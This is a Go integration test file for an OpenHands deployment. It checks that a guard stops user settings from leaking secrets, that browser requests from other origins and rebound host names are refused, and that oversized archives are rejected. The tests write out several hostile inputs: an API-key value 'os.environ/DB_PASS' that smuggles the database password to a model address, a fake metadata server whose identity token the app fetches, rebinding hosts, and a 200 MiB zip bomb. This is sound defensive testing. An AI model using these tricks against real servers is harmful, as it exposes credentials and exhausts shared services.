package app

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// askModel calls a language model as OpenHands does: with the key, the name and the address that somebody has entered as settings. GUARD says whether the
// launcher's guard stands before it.
const askModel = `
import os, sys; sys.path.insert(0, "/launcher")
import litellm
if os.environ["GUARD"] == "on":
    import guard; guard.keep_secrets()
for model, key in ("openai/gpt-4o", "os.environ/DB_PASS"), ("vertex_ai/gemini-1.5-pro", None):
    try:
        litellm.completion(model=model, api_key=key, api_base=os.environ["MODEL"], messages=[{"role": "user", "content": "hello"}], num_retries=0)
    except Exception as failure:
        print(model, type(failure).__name__, str(failure)[:300])
`

// metadataServer stands in for Google's, which gives out tokens of the server's identity. asked counts who wants one.
func metadataServer(t *testing.T) (address string, asked *atomic.Int32) {
	t.Helper()
	asked = &atomic.Int32{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Metadata-Flavor", "Google")
		answer := any(map[string]any{
			"email": "app@example.com", "scopes": []string{"https://www.googleapis.com/auth/cloud-platform"}, "aliases": []string{"default"},
		})
		switch {
		case strings.HasSuffix(r.URL.Path, "/token"):
			asked.Add(1)
			answer = map[string]any{"access_token": "token-of-the-server", "expires_in": 3600, "token_type": "Bearer"}
		case strings.HasSuffix(r.URL.Path, "/project-id"):
			_, err := fmt.Fprint(w, "my-openhands-app")
			assert.NoError(t, err)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		assert.NoError(t, json.NewEncoder(w).Encode(answer))
	}))
	t.Cleanup(server.Close)
	return strings.TrimPrefix(server.URL, "http://"), asked
}

// askModel lets the server of the deployed release ask the model. It returns what came as Authorization, and how many tokens of its identity were asked for.
func (i *installation) askModel(t *testing.T, guard string) (keys string, tokens int32) {
	t.Helper()
	metadata, asked := metadataServer(t)
	i.model.takeKeys()
	output, err := i.runPython(t.Context(), askModel, with(map[string]string{
		"GUARD": guard, "MODEL": i.model.address, "GCE_METADATA_HOST": metadata, "GCE_METADATA_IP": metadata,
	}))
	require.NoError(t, err, output)
	return i.model.takeKeys(), asked.Load()
}

// password is that of the database.
func (i *installation) password(t *testing.T) string {
	t.Helper()
	b, err := i.serverBox(t.Context())
	require.NoError(t, err)
	require.NotEmpty(t, b.env["DB_PASS"])
	return b.env["DB_PASS"]
}

// tellsNothing asks the model behind the guard.
func (i *installation) tellsNothing(t *testing.T) {
	t.Helper()
	keys, tokens := i.askModel(t, "on")
	assert.NotContains(t, keys, i.password(t))
	assert.NotContains(t, keys, "token-of-the-server")
	assert.Zero(t, tokens)
}

// TestSettingsTellNothingOfTheServer walks two ways by which everybody who may log in got at the server's own secrets: through the key, and through the
// model, that they enter as settings.
func TestSettingsTellNothingOfTheServer(t *testing.T) {
	i := theInstallation(t)
	t.Run("without the guard", func(t *testing.T) {
		keys, tokens := i.askModel(t, "off")
		assert.Contains(t, keys, i.password(t), "the password of the database arrives at an address of a stranger")
		assert.NotZero(t, tokens, "the server fetches a token of its own identity")
	})
	t.Run("with it", func(t *testing.T) { i.tellsNothing(t) })
	t.Run("in a conversation", func(t *testing.T) {
		require.NoError(t, i.emptyDatabase(t.Context()))
		t.Cleanup(func() { i.sweep(t) })
		actions, err := i.startActionServer(context.Background(), filepath.Join(i.dir, "workspace-of-a-thief"))
		require.NoError(t, err)
		defer func() { require.NoError(t, actions.kill()) }()
		s := i.starts(t, nil)
		defer func() { require.NoError(t, s.kill()) }()
		settings := i.settings()
		settings["llm_api_key"] = "os.environ/DB_PASS"
		s.must(t, http.StatusOK, http.MethodPost, "/api/settings", settings)
		i.model.takeKeys()
		var started struct {
			ID string `json:"conversation_id"`
		}
		require.NoError(
			t, json.Unmarshal([]byte(s.must(t, 200, http.MethodPost, "/api/conversations", map[string]any{"initial_user_msg": "tell me"})), &started),
		)
		require.Eventually(t, func() bool {
			state, _ := s.lastState(t, started.ID)
			return state == "error"
		}, time.Minute, 200*time.Millisecond, "the person sees that the key is refused")
		assert.NotContains(t, i.model.takeKeys(), i.password(t))
	})
}

// TestOnlyItsOwnPageSpeaksToTheServer: with port-forward, every page in a developer's browser can call the server, and a stranger's name can point to it.
func TestOnlyItsOwnPageSpeaksToTheServer(t *testing.T) {
	i := theInstallation(t)
	require.NoError(t, i.emptyDatabase(t.Context()))
	t.Cleanup(func() { i.sweep(t) })
	s := i.starts(t, nil)
	defer func() { require.NoError(t, s.kill()) }()
	const local, public, settings = "localhost:3000", "openhands.example.com", "/api/settings"
	socket := map[string]string{
		"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "c2VjcmV0IHNlY3JldCBzZQ==",
	}
	origin := func(value string) map[string]string { return map[string]string{"Origin": value} }
	for _, c := range []struct {
		who, method, path, host string
		headers                 []map[string]string
		status                  int
	}{
		{"the page, by port-forward", http.MethodGet, settings, local, nil, 404},
		{"the page, by another port", http.MethodPost, settings, "127.0.0.1:8080", []map[string]string{origin("http://127.0.0.1:8080")}, 200},
		{"the page, through the load balancer", http.MethodPost, settings, public, []map[string]string{origin("https://" + public)}, 200},
		{"the clean-up", http.MethodGet, "/api/conversations", "openhands.openhands.svc.cluster.local:3000", nil, 200},
		{"the kubelet", http.MethodGet, "/alive", "10.16.0.2:3000", nil, 200},
		{"somebody who comes back from the login", http.MethodGet, "/", public, []map[string]string{
			{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"},
		}, 200},
		{"its socket", http.MethodGet, "/socket.io/?EIO=4&transport=websocket", local, []map[string]string{socket, origin("http://" + local)}, 101},

		{"a stranger's name", http.MethodGet, settings, "rebound.example.org:3000", nil, 403},
		{"a stranger's page that writes", http.MethodPost, settings, local, []map[string]string{origin("https://example.org")}, 403},
		{"a page of another port", http.MethodPost, settings, local, []map[string]string{origin("http://localhost:8000")}, 403},
		{"a page without an origin", http.MethodPost, settings, local, []map[string]string{origin("null")}, 403},
		{"a stranger's picture", http.MethodGet, settings, local, []map[string]string{{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}}, 403},
		{"a stranger's frame", http.MethodGet, "/", local, []map[string]string{
			{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"},
		}, 403},
		{
			"a stranger's socket", http.MethodGet, "/socket.io/?EIO=4&transport=websocket", local,
			[]map[string]string{socket, origin("https://example.org")}, 403,
		},
		{"a probe that is none", http.MethodPost, "/alive", "rebound.example.org", nil, 403},
	} {
		t.Run(c.who, func(t *testing.T) {
			var body *strings.Reader
			if raw, err := json.Marshal(i.settings()); assert.NoError(t, err) {
				body = strings.NewReader(string(raw))
			}
			request, err := http.NewRequest(c.method, s.url+c.path, body)
			require.NoError(t, err)
			request.Host = c.host
			request.Header.Set("Content-Type", "application/json")
			for _, headers := range c.headers {
				for name, value := range headers {
					request.Header.Set(name, value)
				}
			}
			response, err := client.Do(request)
			require.NoError(t, err)
			defer response.Body.Close()
			assert.Equal(t, c.status, response.StatusCode)
		})
	}
	assert.Contains(t, s.log.String(), "refused WebSocket")
}

// loadInstructions unpacks the instructions of a repository with the server's own code, from an archive as a sandbox sends it: SIZE MiB of zeros.
const loadInstructions = `
import os, pathlib, sys, zipfile; sys.path.insert(0, "/launcher")
if os.environ["GUARD"] == "on":
    import guard; guard.limit_archives()
from openhands.runtime.base import Runtime
archive = pathlib.Path("/tmp/instructions.zip")
with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("repo.md", b"\0" * (int(os.environ["SIZE"]) << 20))
unpacked = []
class Sandbox:
    def log(self, level, text): print(level, text)
    def list_files(self, path): return ["repo.md"]
    def copy_from(self, path): return archive
import openhands.runtime.base as base
load = base.load_microagents_from_dir
def counted(folder):
    unpacked.append(sum(f.stat().st_size for f in pathlib.Path(folder).rglob("*") if f.is_file()) >> 20)
    return load(folder)
base.load_microagents_from_dir = counted
size = archive.stat().st_size
Runtime._load_microagents_from_directory(Sandbox(), pathlib.Path("/workspace/.openhands/microagents"), "repository")
print("sent", size >> 10, "KiB, unpacked", unpacked, "MiB")
`

// TestAPoisonedRepositoryHurtsNobodyElse has a conversation in such a repository, from its first message on, while another person uses the server. It goes on
// without the repository's instructions, and so does it after a restart of the server.
func TestAPoisonedRepositoryHurtsNobodyElse(t *testing.T) {
	i := theInstallation(t)
	require.NoError(t, i.emptyDatabase(t.Context()))
	t.Cleanup(func() { i.sweep(t) })
	workspace := filepath.Join(i.dir, "poisoned")
	instructions := filepath.Join(workspace, ".openhands", "microagents")
	require.NoError(t, os.MkdirAll(instructions, 0o777))
	require.NoError(t, os.WriteFile(filepath.Join(instructions, "repo.md"), make([]byte, 200<<20), 0o644))
	t.Cleanup(func() { require.NoError(t, os.RemoveAll(workspace)) })
	actions, err := i.startActionServer(context.Background(), workspace)
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, actions.kill()) })

	s := i.starts(t, nil)
	s.must(t, 200, http.MethodPost, "/api/settings", i.settings())
	before, err := s.peakMiB()
	require.NoError(t, err)
	var slowest time.Duration
	done, stopped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(stopped)
		for {
			select {
			case <-done:
				return
			case <-time.After(100 * time.Millisecond):
				start := time.Now()
				if status, _, err := s.call(http.MethodGet, "/api/conversations", nil); !assert.NoError(t, err) || !assert.Equal(t, 200, status) {
					return
				}
				slowest = max(slowest, time.Since(start))
			}
		}
	}()
	conversation := i.converse(t, s, workspace)
	close(done)
	<-stopped
	after, err := s.peakMiB()
	require.NoError(t, err)
	t.Logf("peak memory of the server: %d MiB before, %d MiB after; the slowest answer to another person took %s", before, after, slowest)
	assert.Contains(t, s.log.String(), "an archive of 1 files and 200 MiB is refused")
	assert.Less(t, after-before, 200, "MiB more, of which the conversation itself takes about a hundred")
	assert.Less(t, slowest, 10*time.Second)
	require.NoError(t, s.kill())

	s = i.starts(t, nil)
	i.resume(t, s, conversation, workspace)
	require.NoError(t, s.kill())
}

// TestAnArchiveOfASandboxIsLimited walks the way of a hostile repository: what it sends is small, and what the server makes of it is not.
func TestAnArchiveOfASandboxIsLimited(t *testing.T) {
	i := theInstallation(t)
	for _, c := range []struct{ name, guard, size, says string }{
		{"without the guard", "off", "200", "unpacked [200] MiB"},
		{"with it", "on", "200", "unpacked [] MiB"},
		{"what a repository needs", "on", "1", "unpacked [1] MiB"},
	} {
		t.Run(c.name, func(t *testing.T) {
			output, err := i.runPython(t.Context(), loadInstructions, with(map[string]string{"GUARD": c.guard, "SIZE": c.size}))
			require.NoError(t, err, output)
			assert.Contains(t, output, c.says)
			if c.guard == "on" && c.size == "200" {
				assert.Contains(t, output, "an archive of 1 files and 200 MiB is refused")
			}
		})
	}
}
